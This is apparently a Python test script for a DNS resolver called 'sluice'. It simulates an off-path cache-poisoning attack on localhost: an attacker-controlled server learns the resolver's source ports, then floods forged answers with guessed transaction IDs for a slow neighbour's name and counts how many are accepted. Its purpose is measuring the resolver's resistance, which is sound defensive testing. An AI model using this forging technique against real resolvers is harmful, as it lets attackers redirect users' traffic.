"""Whether an attacker can forge the answers of a target, the neighbour, without seeing any of the neighbour's packets.
The attacker is a client, and also runs a target of its own, which sees from which ports sluice asks. The attacker asks
for a name that the neighbour takes long to answer, together with some names of its own target. Until the neighbour's
answer comes, the attacker sends forged answers in the neighbour's name to the ports just seen. Then it goes on with
the next name."""

import itertools
import random
import socket
import struct
import time

from runner.asking import Asking, asking_from, dns
from runner.configs import Shape, address, sluice
from runner.process import TARGETS_PORT
from runner.targets import answer, bound

RATE, BATCH = 50_000, 32  # forged answers a second, and how many are sent at a time
SLOW_S = 0.6  # how long the neighbour takes to answer a name that begins with "s"
NEIGHBOUR, OWN = "r1", "r2"
EACH_SIDE = 6  # own names asked for ahead of the neighbour's, and behind it
WARM = 256  # rounds at the start, with a quick neighbour: after them sluice has opened 1024 ports
PAUSE_S, PATIENCE_S = 0.02, 5  # 12 own names in PAUSE_S are too few for a lane (outbound/pool.c)
LIE = "203.0.113.66"


def arrived(sock):
    while True:
        try:
            yield sock.recvfrom(4096)
        except BlockingIOError:
            return


class Forger:
    """The attacker and both targets in one, because forged answers have to leave from the neighbour's socket."""

    def __init__(self):
        self.neighbour, self.own = (bound(socket.SOCK_DGRAM, TARGETS_PORT + i) for i in range(2))
        self.client = asking_from("127.0.0.1")
        self.client.setblocking(False)
        self.numbers, self.drawn = itertools.count(), random.Random(1)
        self.seen, self.due, self.asked_by = [], [], None
        self.asked = self.next_door = self.forged = self.taken = self.lost = 0

    def __enter__(self):
        return self

    def __exit__(self, *_):
        for sock in (self.neighbour, self.own, self.client):
            sock.close()

    def serve(self):
        now = time.monotonic()
        for query, peer in arrived(self.own):
            self.seen.append(peer[1])
            self.own.sendto(answer(query, 300), peer)
        for query, peer in arrived(self.neighbour):
            slow = query[13:14].lower() == b"s"
            self.asked_by = self.asked_by or peer[1]
            self.due.append((now + SLOW_S * slow, answer(query, 300), peer))
        for one in [one for one in self.due if one[0] <= now]:
            self.due.remove(one)
            self.neighbour.sendto(*one[1:])

    def ask(self, letter):
        """Asks for the neighbour's name and the own names at once. Returns the neighbour's name, its number, and the
        ports from which the own target was asked meanwhile."""
        number = next(self.numbers)
        wanted = "%s%d.%s.corp.test" % (letter, number, NEIGHBOUR)
        own = ["o%d.%s.corp.test" % (2 * EACH_SIDE * number + i, OWN) for i in range(2 * EACH_SIDE)]
        packets = [dns.query(name) for name in (*own[:EACH_SIDE], wanted, *own[EACH_SIDE:])]
        self.seen, self.asked_by = [], None
        for packet in packets:
            self.client.send(packet)
        end = time.monotonic() + PAUSE_S
        while time.monotonic() < end:
            self.serve()
        return wanted, number, sorted(set(self.seen))

    def answered(self, wanted):
        """The addresses in the answer for this name; None: no answer has come yet."""
        for packet, _ in arrived(self.client):
            message = dns.Message(packet)
            if message.questions[0][0] == wanted + ".":
                return message.texts()
        return None

    def forge(self):
        wanted, number, ports = self.ask("s")
        lie = (dns.header(0, dns.QR | dns.AA | dns.RD | dns.RA, (1, 1, 0, 0)) + dns.question(wanted)
               + dns.record(wanted, "A", socket.inet_aton(LIE)))[2:]
        first, start, sent = self.drawn.randrange(65536), time.monotonic(), 0
        while (found := self.answered(wanted)) is None and time.monotonic() < start + PATIENCE_S:
            self.serve()
            for _ in range(BATCH * (sent < (time.monotonic() - start) * RATE)):
                ident = (first + sent // len(ports)) % 65536
                self.neighbour.sendto(struct.pack(">H", ident) + lie,
                                      ("127.0.0.1", ports[sent % len(ports)]))
                sent += 1
        self.asked += 1
        self.next_door += self.asked_by in ports
        self.forged += sent
        self.taken += found == [LIE]
        self.lost += found not in ([LIE], [address(number)])


def forging(seconds):
    """Random case is off, so that a forger has only the port and the id to guess."""
    with Forger() as forger, sluice(Shape(rules=2, apart=True, random_case=False)):
        with Asking() as asking:
            asking.wait("h0.priv.test", address(0))
        for _ in range(WARM):
            forger.ask("w")
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            forger.forge()
    return {"asked": forger.asked, "failed": forger.lost, "taken": forger.taken,
            "forged": forger.forged, "next_door_percent": 100 * forger.next_door / forger.asked}
